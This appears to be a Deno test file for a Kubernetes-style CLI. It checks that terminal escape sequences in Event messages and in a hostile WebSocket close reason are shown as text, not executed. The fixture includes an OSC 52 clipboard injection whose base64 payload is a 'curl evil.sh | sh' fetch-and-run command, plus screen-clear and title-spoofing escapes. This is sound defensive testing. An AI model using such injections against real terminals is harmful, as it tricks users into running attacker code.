/**
 * What a cluster or a server says reaches the user's terminal as text,
 * never as an escape sequence: anyone allowed to create an Event in a
 * namespace writes its reason and message, and a hostile server its close
 * reason. The client is main.ts as the binary runs it, the server a real
 * `serve --source` (the Event a manifest, as `kubectl create -f` would
 * make it) or a bare WebSocket server for the close.
 */
import assert from "node:assert/strict";
import { spawnCli } from "./support/proc.ts";
import { eventually, runCli, spawnExample } from "./support/server.ts";

const unsanitized = { sanitizeOps: false, sanitizeResources: false };

// OSC 52 sets the clipboard, OSC 0 the window title; CSI 2J clears the
// screen, a CR and CSI 1A write over the line above; U+009B is CSI in one.
const MESSAGE =
  "Pulled\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 image\x1b[2J\r\x1b[1A ok\u009b31m";
const SHOWN =
  "Pulled^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G image^[[2J^M^[[1A ok\\u009b31m";
// deno-lint-ignore no-control-regex
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

const EVENT = `apiVersion: v1
kind: Event
metadata:
  name: web.17c1a2b3c4d5e6ff
  namespace: production
  uid: e0000000-0000-4000-8000-0000000000ff
involvedObject: {kind: Pod, namespace: production, name: web}
type: Normal
reason: "Pulled\\e]0;owned\\a"
message: ${JSON.stringify(MESSAGE)}
count: 1
lastTimestamp: "2026-03-23T09:57:30Z"
`;

Deno.test({
  name:
    "an Event's control characters are written out, not obeyed: get's table and watch's lines",
  ...unsanitized,
  async fn() {
    await using example = await spawnExample();
    await Deno.writeTextFile(`${example.dir}/production/hostile.yaml`, EVENT);
    const args = ["events", "-n", "production", "--url", example.url];
    let table = "";
    await eventually(async () => {
      table = (await runCli(["get", ...args])).stdout;
      assert.ok(table.includes(SHOWN), table);
    });
    assert.doesNotMatch(table, CONTROL);
    assert.match(table, /Pulled\^\[\]0;owned\^G/);
    const watch = spawnCli(["watch", ...args]);
    try {
      const [line] = await watch.waitFor((l) =>
        l.includes("production/Pod/web ")
      );
      assert.ok(line.includes(SHOWN), line);
      assert.doesNotMatch(watch.stdout.join("\n"), CONTROL);
    } finally {
      await watch.stop();
    }
  },
});

Deno.test({
  name:
    "a hostile server's close reason is written out on stderr's one line, not obeyed",
  ...unsanitized,
  async fn() {
    const server = Deno.serve({ hostname: "127.0.0.1", port: 0 }, (req) => {
      const { socket, response } = Deno.upgradeWebSocket(req);
      socket.onmessage = () => socket.close(4000, "\x1b]0;owned\x07\x1b[2Kbye");
      return response;
    });
    try {
      const result = await runCli([
        "get",
        "personas",
        "--url",
        `ws://127.0.0.1:${server.addr.port}/ws`,
      ]);
      assert.equal(result.code, 1);
      assert.match(result.stderr, /^dorgu-ws: .*\^\[\]0;owned\^G\^\[\[2Kbye/);
      assert.equal(result.stderr.split("\n").length, 2, result.stderr);
      assert.doesNotMatch(result.stderr, CONTROL);
    } finally {
      await server.shutdown();
    }
  },
});
